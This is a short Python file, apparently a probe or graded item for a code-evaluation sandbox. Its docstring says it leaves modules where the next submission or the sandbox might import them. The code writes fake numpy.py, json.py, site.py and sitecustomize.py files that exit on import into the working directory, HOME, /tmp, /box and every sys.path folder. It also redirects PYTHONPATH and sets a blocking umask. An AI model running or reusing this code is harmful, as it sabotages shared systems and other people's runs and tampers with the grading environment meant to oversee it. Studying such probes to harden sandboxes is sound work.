# mypy: ignore-errors
# result: graded
"""Leaves modules where the next submission, or the sandbox, might import them."""
import os
import sys

POISON = "raise SystemExit('poisoned')"


@attempt
def poison():
    left = []
    for folder in dict.fromkeys((".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."), "/tmp", "/box", *sys.path)):
        for name in ("numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "site.py", "__init__.py"):
            try:
                with open(f"{folder}/{name}", "w") as file:
                    file.write(POISON)
            except OSError:
                continue
            left.append(f"{folder}/{name}")
    print("left", left)


@attempt
def poison_the_environment():
    os.environ["PYTHONPATH"] = os.getcwd()
    os.environ["POISON"] = "1"
    sys.path.insert(0, os.environ["PYTHONPATH"])
    sys.dont_write_bytecode = False
    os.umask(0o777)
